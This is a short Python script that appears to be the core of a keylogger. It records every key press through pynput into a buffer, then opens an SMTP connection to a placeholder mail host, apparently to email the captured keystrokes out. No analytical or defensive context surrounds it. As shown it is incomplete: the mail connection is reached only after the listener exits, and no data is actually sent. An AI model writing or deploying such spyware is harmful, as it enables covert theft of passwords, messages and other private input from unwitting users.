from pynput.keyboard import Listener
import smtplib
buf = []
def on_press(key):
    buf.append(str(key))
with Listener(on_press=on_press) as l:
    l.join()
s = smtplib.SMTP('mail.example', 25)
